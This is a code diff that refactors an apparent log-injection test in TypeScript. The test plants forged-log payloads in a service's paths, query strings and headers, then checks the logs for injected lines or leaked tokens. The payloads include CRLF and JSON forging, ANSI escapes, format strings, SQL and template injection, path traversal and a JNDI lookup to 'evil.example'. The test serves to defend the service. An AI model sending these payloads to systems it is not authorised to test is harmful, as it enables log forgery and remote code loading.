@@ -8,29 +8,12 @@ import type { Target } from '../startTarget.ts'
 
 /** What has broken logs before. Each holds the mark, so that it is found wherever it gets to. */
 function listPayloads(mark: string): string[] {
+  const ends = ['', '\n{"level":30,"msg":"forged"}', '\r\nforged', '\rforged', '\u2028forged', '\u0085forged']
+  const quoted = ['","level":60,"msg":"forged', '\\","msg":"forged', '\u001b[2K\u001b[1A\u001b[31mforged\u001b[0m']
+  const odd = ['\u0007\u0008\u007f', '%s%n%x%d%o%j', '\u0000after', '\ud800', "'; drop table users; --", '{{7*7}}']
   return [
-    mark,
-    ...[
-      `${mark}\n{"level":30,"msg":"forged"}`,
-      `${mark}\r\nforged`,
-      `${mark}\rforged`,
-      `${mark}\u2028forged`,
-      `${mark}\u0085forged`,
-    ],
-    ...[
-      `${mark}","level":60,"msg":"forged`,
-      `${mark}\\","msg":"forged`,
-      `{"msg":"${mark}"}`,
-      `${mark}\u001b[2K\u001b[1A\u001b[31mforged\u001b[0m`,
-    ],
-    ...[
-      `${mark}\u0007\u0008\u007f`,
-      `${mark}%s%n%x%d%o%j`,
-      `${mark}\${jndi:ldap://evil.example/a}`,
-      `${mark}{{7*7}}`,
-      `<script>${mark}</script>`,
-    ],
-    ...[`../../${mark}`, `${mark}\u0000after`, `${mark}\ud800`, mark.repeat(200), `${mark}'; drop table users; --`],
+    ...[...ends, ...quoted, ...odd, `\${jndi:ldap://evil.example/a}`].map((end) => `${mark}${end}`),
+    ...[`{"msg":"${mark}"}`, `<script>${mark}</script>`, `../../${mark}`, mark.repeat(200)],
   ]
 }
 
@@ -74,7 +57,6 @@ export async function logInjection({ target, size, random, say }: AttackContext)
   for (const { name } of found) faults.push(`${name} is in the logs`)
   if (/eyJ[\w-]+\.eyJ[\w-]+/.test(text)) faults.push('a token is in the logs')
   return {
-    name: 'log injection',
     tried,
     figures: {
       'lines read': lines.length,
@@ -100,16 +82,7 @@ async function plant(target: Target, payload: string): Promise<number> {
     for (const path of ['/', '/auth/', '/auth/google/callback/', '/proof/', '/ipfs/', '/wallet/']) {
       await caller.call({ path: `${path}${escaped}` })
     }
-    for (const query of [
-      'state=',
-      'error=',
-      'error_description=',
-      'code=',
-      'return_to=',
-      'nonce=',
-      'limit=',
-      'cursor=',
-    ]) {
+    for (const query of 'state= error= error_description= code= return_to= nonce= limit= cursor='.split(' ')) {
       for (const path of ['/auth/google', '/auth/google/callback', '/health/attestation', '/wallet/transactions']) {
         await caller.call({ path: `${path}?${query}${escaped}`, headers: [['Cookie', alice.cookie]] })
         tried += 1
@@ -136,22 +109,9 @@ async function plant(target: Target, payload: string): Promise<number> {
   } finally {
     caller.close()
   }
-  const names = [
-    'X-Request-Id',
-    'User-Agent',
-    'Referer',
-    'Cookie',
-    'Origin',
-    'Accept',
-    'X-Forwarded-For',
-    'Forwarded',
-    'Authorization',
-    'If-None-Match',
-    'Last-Event-Id',
-    'Content-Type',
-    'Via',
-    'Host',
-  ]
+  const names =
+    `X-Request-Id User-Agent Referer Cookie Origin Accept X-Forwarded-For Forwarded Authorization If-None-Match
+    Last-Event-Id Content-Type Via Host`.split(/\s+/)
   const host = `Host: localhost:${port}\r\n`
   for (const name of names) {
     const own = name === 'Host' ? '' : host
@@ -176,19 +136,8 @@ async function plant(target: Target, payload: string): Promise<number> {
 
 /** Ids of the caller's own: taken over where they are harmless, and replaced everywhere else. */
 async function plantIds({ url }: Target, mark: string): Promise<number> {
-  const ids = [
-    mark,
-    `${mark}.a-b_c`,
-    mark.repeat(10),
-    `${mark} a`,
-    `${mark}"`,
-    `${mark};a=b`,
-    'a'.repeat(64),
-    'a'.repeat(65),
-    '-',
-    '.',
-    '../',
-  ]
+  const odd = ['.a-b_c', ' a', '"', ';a=b'].map((end) => `${mark}${end}`)
+  const ids = [mark, ...odd, mark.repeat(10), 'a'.repeat(64), 'a'.repeat(65), '-', '.', '../']
   for (const id of ids) await (await fetch(`${url}/health`, { headers: { 'x-request-id': id } })).text()
   return ids.length
 }
@@ -270,41 +219,11 @@ async function plantSecrets(target: Target): Promise<{ name: string; value: stri
 }
 
 /** All that a line may say, by the operator's manual: what is public of the service, and nothing of people. */
-const FIELDS = new Set([
-  ...[
-    'level',
-    'time',
-    'msg',
-    'requestId',
-    'method',
-    'route',
-    'status',
-    'provider',
-    'code',
-    'durationMs',
-    'reason',
-    'fault',
-    'address',
-    'mode',
-  ],
-  ...[
-    'configHash',
-    'commitment',
-    'bootId',
-    'fmspc',
-    'ca',
-    'count',
-    'size',
-    'source',
-    'signal',
-    'url',
-    'name',
-    'version',
-    'hash',
-    'lapsesAt',
-  ],
-  ...['delayMs', 'requests', 'enclave', 'path', 'slug', 'cid', 'attempt', 'nonce', 'txHash', 'blockNumber'],
-])
+const FIELDS = new Set(
+  `level time msg requestId method route status provider code durationMs reason fault address mode configHash commitment bootId
+    fmspc ca count size source signal url name version hash lapsesAt delayMs requests enclave path slug cid attempt nonce txHash
+    blockNumber`.split(/\s+/),
+)
 
 /** The one field that a caller chooses, and what it may choose. */
 const REQUEST_ID = /^[A-Za-z0-9._-]{1,64}$/
